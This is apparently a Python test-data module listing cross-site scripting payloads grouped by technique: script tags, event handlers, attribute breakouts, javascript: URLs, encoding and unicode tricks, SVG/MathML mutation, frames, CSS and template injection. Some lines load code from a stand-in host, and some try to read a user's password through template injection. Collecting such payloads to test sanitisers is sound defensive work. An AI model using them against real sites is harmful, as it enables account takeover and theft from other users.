r"""Texts that try to run a script in another user's browser, by kind of attack.

Most work alone if they get through, and are short: a name holds 120 characters.
"""

TAGS = """
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script src=/static/x.js></script>
<script src=//elders.example/x.js></script>
<script src="data:,alert(1)"></script>
<script type=module>alert(1)</script>
<script type="text/javascript">alert(1)</script>
<script defer>alert(1)</script>
<script nonce="">alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert`1`</script>
<script>confirm(1)</script>
<script>prompt(1)</script>
<script>throw 1</script>
<script>document.title=1</script>
<script>/*x*/alert(1)/*y*/</script>
<p><script>alert(1)</script></p>
<script><!--alert(1)--></script>
""".strip().splitlines()

HANDLERS = """
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x oNeRrOr=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert`1`>
<img src=x onerror=alert&#40;1&#41;>
<img src=x onerror=&#97;lert(1)>
<img src onerror=alert(1)>
<img src=x onload=alert(1) onerror=alert(2)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<a href=# autofocus onfocus=alert(1)>x</a>
<p tabindex=1 autofocus onfocus=alert(1)>x</p>
<p onclick=alert(1)>x</p>
<p onmouseover=alert(1)>x</p>
<p onpointerenter=alert(1)>x</p>
<h3 onclick=alert(1)>x</h3>
<li onclick=alert(1)>x</li>
<blockquote onclick=alert(1)>x</blockquote>
<strong onclick=alert(1)>x</strong>
<br onclick=alert(1)>
<a href=/ onclick=alert(1)>x</a>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<object data=x onerror=alert(1)></object>
<dialog open onclose=alert(1)>x</dialog>
<form oninput=alert(1)><input></form>
<p style=animation:x onanimationstart=alert(1)>x</p>
<p contenteditable onblur=alert(1)>x</p>
<xss onclick=alert(1)>x</xss>
<x-y onpointerover=alert(1)>x</x-y>
""".strip().splitlines()

ATTRIBUTES = """
" onclick="alert(1)
' onclick='alert(1)
" onfocus=alert(1) autofocus "
' onfocus=alert(1) autofocus '
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"/><svg onload=alert(1)>
" style="x" onclick="alert(1)
` onclick=alert(1) `
x onclick=alert(1)
--><script>alert(1)</script>
--!><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
</a><a href=javascript:alert(1)>x</a>
</template><img src=x onerror=alert(1)>
"]}</script><script>alert(1)</script>
';alert(1);//
";alert(1);//
\\";alert(1);//
'-alert(1)-'
"-alert(1)-"
</time><svg onload=alert(1)>
</p></div></main><img src=x onerror=alert(1)>
]]><script>alert(1)</script>
""".strip().splitlines()

ADDRESSES = """
javascript:alert(1)
<a href=javascript:alert(1)>x</a>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#13;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3a;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:void(0)" onclick=alert(1)>x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4x">x</a>
<a href="blob:x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="//elders.example" target=_blank ping=//elders.example>x</a>
<a href='javascript:alert(1)' title="x">x</a>
<a href=`javascript:alert(1)`>x</a>
<a HREF=javascript:alert(1) href=/>x</a>
<area href=javascript:alert(1)>
<map><area href=javascript:alert(1)></map>
<form action=javascript:alert(1)><input type=submit>
<button formaction=javascript:alert(1)>x</button>
<input type=image formaction=javascript:alert(1)>
<img src=javascript:alert(1)>
<img lowsrc=javascript:alert(1)>
<a xlink:href=javascript:alert(1)>x</a>
<blockquote cite=javascript:alert(1)>x</blockquote>
<q cite=javascript:alert(1)>x</q>
[x](javascript:alert(1))
<javascript:alert(1)>
""".strip().splitlines()

ENTITIES_AND_ENCODINGS = """
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
&ltscript&gtalert(1)&lt/script&gt
&LT;img src=x onerror=alert(1)&GT;
<p>&lt;img src=x onerror=alert(1)&gt;</p>
""".strip().splitlines()

UNICODE = [
    "<script\u00a0>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u200bscript>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<\u202escript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<img src=x onerror\u3000=alert(1)>",
    "<img\u2028src=x onerror=alert(1)>",
    "<img src=x \u2029onerror=alert(1)>",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    "<svg\x0conload=alert(1)>",
    "<img\x0bsrc=x onerror=alert(1)>",
    "e\u0301<script>alert(1)</script>",
]

# PostgreSQL stores no NUL and forms refuse it; rich text drops it.
NULL_BYTES = [
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\0script>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "<img src=x onerror\0=alert(1)>",
    "<img src=x \0onerror=alert(1)>",
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\0javascript:alert(1)">x</a>',
    "\0<svg onload=alert(1)>",
]

SVG_AND_MATH = """
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert()>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script xlink:href="data:,alert(1)"/></svg>
<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />
<svg><set attributeName=onload to=alert(1)>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject>
<svg><use href="data:image/svg+xml,<svg id=x/>#x">
<svg><image href=x onerror=alert(1)>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><handler type=text/javascript>alert(1)</handler>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>
""".strip().splitlines()

MUTATION = """
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><p><style><a id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><style><a title="</style><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<select><style></select><img src=x onerror=alert(1)></style>
<table><td><a href="javascript:alert(1)">x</a><caption>
<p title="`` onmouseover=alert(1)">x</p>
<a href="x` onclick=alert(1) `">x</a>
<option><style></option></select><img src=x onerror=alert(1)></style>
<b><b><b><p></b><img src=x onerror=alert(1)>
<a><table><a href=javascript:alert(1)>x
""".strip().splitlines()

UNCLOSED = """
<script>alert(1)
<script src=x
<img src=x onerror=alert(1)//
<img src=x onerror=alert(1) x="
<svg onload=alert(1)//
<svg onload=alert(1)
<a href=javascript:alert(1)
<a href="javascript:alert(1)
<p onclick="alert(1)
<iframe src=javascript:alert(1)
<style>@import '//elders.example'
<!--<img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<!doctype html><script>alert(1)
<?xml version="1.0"?><script>alert(1)</script>
<title><img src=x onerror=alert(1)>
<textarea><img src=x onerror=alert(1)>
<plaintext><img src=x onerror=alert(1)>
<
""".strip().splitlines()

FRAMES_AND_PAGES = """
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)></frameset>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=javascript:alert(1)>
<applet code=x onerror=alert(1)></applet>
<portal src=javascript:alert(1)></portal>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;//elders.example">
<meta http-equiv=content-security-policy content="">
<base href=//elders.example/>
<base href="javascript:/a/+alert(1)//">
<base target=_blank>
<link rel=stylesheet href=//elders.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=//elders.example onload=alert(1)>
""".strip().splitlines()

STYLES = """
<style>*{display:none}</style>
<style>@import url(//elders.example/x.css);</style>
<style>p{background:url(javascript:alert(1))}</style>
<style onload=alert(1)></style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(//elders.example)">x</p>
<p style=position:fixed;inset:0>x</p>
<a style="behavior:url(x.htc)">x</a>
<h3 style="color:red" class="x" id="y">x</h3>
""".strip().splitlines()

TEMPLATES = """
{{ constructor.constructor('alert(1)')() }}
{{7*7}}
{% debug %}
{% load static %}{{ request.user.password }}
{% include "admin/base.html" %}
{{ "<script>alert(1)</script>"|safe }}
{# <script>alert(1)</script> #}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
<?php alert(1) ?>
__prefix__<script>alert(1)</script>
%(name)s<script>alert(1)</script>
{0.__class__}<script>alert(1)</script>
<p data-rich-text="/x.js">x</p>
<textarea data-rich-text="data:,alert(1)"></textarea>
""".strip().splitlines()

BY_KIND = {
    "tags": TAGS,
    "handlers": HANDLERS,
    "out of an attribute or element": ATTRIBUTES,
    "addresses": ADDRESSES,
    "entities and encodings": ENTITIES_AND_ENCODINGS,
    "unicode": UNICODE,
    "null bytes": NULL_BYTES,
    "svg and math": SVG_AND_MATH,
    "mutation": MUTATION,
    "frames and pages": FRAMES_AND_PAGES,
    "styles": STYLES,
    "templates": TEMPLATES,
    "unclosed": UNCLOSED,  # last, since it may swallow what follows it
}
PAYLOADS = [payload for payloads in BY_KIND.values() for payload in payloads]
